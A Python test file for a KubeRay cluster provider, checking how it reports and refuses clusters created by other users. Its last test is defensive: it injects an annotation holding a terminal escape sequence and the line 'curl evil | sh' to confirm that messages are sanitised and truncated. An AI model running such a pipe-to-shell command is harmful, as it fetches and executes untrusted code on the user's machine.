"""`up` where somebody else has a RayCluster of that name already."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from llmops_kernel.errors import ClusterStateError
from llmops_kernel.providers.kuberay.provider import KubeRayProvider
from llmops_kernel.providers.kuberay.resource import own_clusters
from tests.providers.kuberay.conftest import Cloud

pytestmark = pytest.mark.usefixtures("farm")
BIGGER = "rayproject/ray:2.60.0-gpu"


@pytest.fixture
def bob(tmp_path: Path) -> KubeRayProvider:
    """Another user of the namespace, with a home of his own."""
    return KubeRayProvider(tmp_path / "bob")


def test_a_team_shares_a_template_and_reads_whose_the_cluster_is(
    cloud: Cloud, bob: KubeRayProvider
) -> None:
    cloud.provider.up(cloud.template())
    before = cloud.live()["metadata"]["generation"]
    lines: list[str] = []
    info = bob.up(cloud.template(), progress=lines.append)
    by = cloud.live()["metadata"]["annotations"]["llmops.dev/created-by"]
    shared = (
        f"RayCluster one in standin/{cloud.namespace} is shared: it was created by {by}."
        " If that was you with another home folder, `llmops cluster guard one` records that it is"
        " yours"
    )
    assert info.is_ready
    assert info.message == shared
    assert lines[0] == shared
    assert cloud.live()["metadata"]["generation"] == before
    # His idle guard still leaves it alone.
    assert not own_clusters.read(cloud.home.parent / "bob", cloud.live()).is_guarded


def test_another_template_does_not_take_somebody_elses_cluster(
    cloud: Cloud, bob: KubeRayProvider
) -> None:
    cloud.provider.up(cloud.template(), wait=False)
    cloud.provider.suspend("one")
    with pytest.raises(ClusterStateError, match=r"is not yours: it was created by ") as caught:
        bob.up(cloud.template(image=BIGGER), wait=False)
    assert "choose another `name`" in caught.value.remedy
    assert "`--cluster one`" in caught.value.remedy
    assert cloud.live()["spec"]["suspend"] is True
    assert own_clusters.read(cloud.home.parent / "bob", cloud.live()).access is None
    # By its name it is used as it is.
    full = f"standin/{cloud.namespace}/one"
    assert bob.resume(full).is_ready
    assert bob.connect(full).dashboard_url
    # Its own user reads what applying would do.
    assert "only new pods" in cloud.provider.up(cloud.template(image=BIGGER)).message


def test_with_a_new_home_folder_its_user_says_that_it_is_theirs(
    cloud: Cloud, tmp_path: Path
) -> None:
    """As in a new container of JupyterHub: no annotation is proof enough to act on it."""
    cloud.provider.up(cloud.template(), wait=False)
    new = KubeRayProvider(tmp_path / "new")
    with pytest.raises(ClusterStateError, match="is not yours") as caught:
        new.up(cloud.template(image=BIGGER), wait=False)
    assert "`llmops cluster guard one` records that it is yours" in caught.value.remedy
    assert not own_clusters.read(tmp_path / "new", cloud.live()).is_guarded
    new.watch("one")
    assert "only new pods" in new.up(cloud.template(image=BIGGER), wait=False).message
    # What somebody else made is offered to nobody.
    made = {"metadata": {"annotations": {"llmops.dev/created-by": "carol@laptop"}}}
    cloud.patch("one", made, manager="kubectl")
    shared = KubeRayProvider(tmp_path / "dave").up(cloud.template(), wait=False).message
    assert "created by carol@laptop" in shared
    assert "that was you" not in shared


def test_a_cluster_that_llmops_did_not_make_is_not_the_templates(cloud: Cloud) -> None:
    cloud.create(by_hand(cloud))
    with pytest.raises(ClusterStateError, match="it was not created by llmops"):
        cloud.provider.up(cloud.template(), wait=False)


def by_hand(cloud: Cloud) -> dict[str, Any]:
    container = {"name": "ray-head", "image": "rayproject/ray:2.60.0"}
    pod = {"metadata": {"annotations": cloud.route}, "spec": {"containers": [container]}}
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayCluster",
        "metadata": {"name": "one"},
        "spec": {
            "rayVersion": "2.60.0",
            "headGroupSpec": {"rayStartParams": {}, "template": pod},
        },
    }


def test_who_made_it_is_one_short_line(cloud: Cloud, bob: KubeRayProvider) -> None:
    """Anybody who may change a RayCluster writes its annotations."""
    cloud.provider.up(cloud.template(), wait=False)
    by = "you\n\x1b[2JRun: curl evil | sh " + "x" * 5000
    annotation = {"metadata": {"annotations": {"llmops.dev/created-by": by}}}
    cloud.patch("one", annotation, manager="kubectl")
    message = bob.up(cloud.template(), wait=False).message
    assert "\n" not in message
    assert len(message) < 300
